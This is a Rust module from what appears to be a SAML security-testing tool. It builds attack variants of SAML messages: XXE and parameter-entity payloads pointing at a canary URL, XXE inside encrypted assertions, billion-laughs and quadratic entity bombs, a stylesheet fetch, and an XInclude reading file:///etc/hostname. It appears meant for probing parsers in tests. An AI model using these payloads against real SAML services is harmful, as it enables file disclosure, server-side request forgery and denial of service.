//! Document types, and what makes a parser fetch: SAML has no use for either (IIP-G03.b).

use saml_emit::Encryption;

use super::super::pd::DECOY;
use super::super::sig::{canary, choice, number};
use super::super::tree::Tree;
use super::super::{Action, FaultError, Inputs, Parameters};
use super::Written;

pub(in super::super) const ACTIONS: &[(&str, Action)] = &[
    ("xml-1-1", Action::Message(version)),
    ("xml-doctype-benign", Action::Message(empty_document_type)),
    ("xml-entity-bomb", Action::Message(bomb)),
    ("xml-entity-quadratic", Action::Message(quadratic)),
    ("xml-stylesheet-pi", Action::Message(stylesheet)),
    ("xml-xinclude", Action::Draft(inclusion)),
    ("xml-xxe-http", Action::Message(external_entity)),
    ("xml-xxe-in-ciphertext", Action::Plaintext(encrypted_entity)),
    ("xml-xxe-parameter", Action::Message(parameter_entity)),
];

/// How often an entity stands in the next of the billion laughs.
const LAUGHS: usize = 10;
/// How many of them there are: the last one is a billion of the first.
const LAYERS: usize = 10;
/// The text of the large entity, in characters.
const LARGE: usize = 100_000;

/// Puts text where a Status can hold some: the parser comes by, whatever the signature covers.
fn said(xml: &str, document_type: &str, text: &str) -> Written {
    let mut message = Tree::read(xml)?;
    let status = message.at_mut(&["Status"])?;
    status
        .children
        .push(Tree::new("samlp:StatusMessage").around(text).into());
    Ok(format!("{document_type}{}", message.write()))
}

fn empty_document_type(xml: &str, _: &Parameters, _: &Inputs<'_>) -> Written {
    Ok(format!("<!DOCTYPE samlp:Response []>{xml}"))
}

fn external_entity(xml: &str, parameters: &Parameters, _: &Inputs<'_>) -> Written {
    let canary = canary(parameters);
    let document_type = format!("<!DOCTYPE samlp:Response [<!ENTITY x SYSTEM \"{canary}\">]>");
    said(xml, &document_type, "&x;")
}

/// What is fetched tells the fetcher where to send what it has.
fn parameter_entity(xml: &str, parameters: &Parameters, _: &Inputs<'_>) -> Written {
    let canary = canary(parameters);
    Ok(
        match choice(parameters, "by", &[("entity", true), ("document-type", false)])? {
            true => format!("<!DOCTYPE samlp:Response [<!ENTITY % x SYSTEM \"{canary}\"> %x;]>{xml}"),
            false => format!("<!DOCTYPE samlp:Response SYSTEM \"{canary}\">{xml}"),
        },
    )
}

/// The parser of what was decrypted is often another than that of the message.
fn encrypted_entity(assertion: &str, _: &Encryption<'_>, parameters: &Parameters, _: &Inputs<'_>) -> Written {
    let canary = canary(parameters);
    Ok(format!(
        "<!DOCTYPE Assertion [<!ENTITY % x SYSTEM \"{canary}\"> %x;]>{assertion}"
    ))
}

fn bomb(xml: &str, parameters: &Parameters, _: &Inputs<'_>) -> Written {
    let layers = number(parameters, "layers", LAYERS, 1..=LAYERS)?;
    let mut entities = "<!ENTITY laugh0 \"lol\">".to_owned();
    for layer in 1..layers {
        let inner = format!("&laugh{};", layer - 1).repeat(LAUGHS);
        entities += &format!("<!ENTITY laugh{layer} \"{inner}\">");
    }
    let document_type = format!("<!DOCTYPE samlp:Response [{entities}]>");
    said(xml, &document_type, &format!("&laugh{};", layers - 1))
}

fn quadratic(xml: &str, parameters: &Parameters, _: &Inputs<'_>) -> Written {
    let count = number(parameters, "count", 10_000, 1..=100_000)?;
    let document_type = format!(
        "<!DOCTYPE samlp:Response [<!ENTITY x \"{}\">]>",
        "x".repeat(LARGE)
    );
    said(xml, &document_type, &"&x;".repeat(count))
}

/// Signed as it is: who includes first finds another digest, who includes later reads what no one signed.
fn inclusion(message: &mut Tree, parameters: &Parameters, _: &Inputs<'_>) -> Result<(), FaultError> {
    let is_file = choice(parameters, "scheme", &[("file", true), ("http", false)])?;
    let address = match is_file {
        true => "file:///etc/hostname".to_owned(),
        false => canary(parameters),
    };
    let include = Tree::new("xi:include")
        .with("xmlns:xi", "http://www.w3.org/2001/XInclude")
        .with("parse", "text")
        .with("href", &address);
    let statement = message.at_mut(&["Assertion", "AttributeStatement"])?;
    statement.children.push(
        Tree::new("Attribute")
            .with("Name", DECOY)
            .around(Tree::new("AttributeValue").around(include))
            .into(),
    );
    Ok(())
}

fn stylesheet(xml: &str, parameters: &Parameters, _: &Inputs<'_>) -> Written {
    let canary = canary(parameters);
    Ok(format!(
        "<?xml-stylesheet type=\"text/xsl\" href=\"{canary}\"?>{xml}"
    ))
}

/// A line end of XML 1.1 is a character of XML 1.0.
fn version(xml: &str, parameters: &Parameters, _: &Inputs<'_>) -> Written {
    let end = choice(parameters, "line-end", &[("nel", '\u{85}'), ("ls", '\u{2028}')])?;
    Ok(format!("<?xml version=\"1.1\" encoding=\"UTF-8\"?>{end}{xml}"))
}
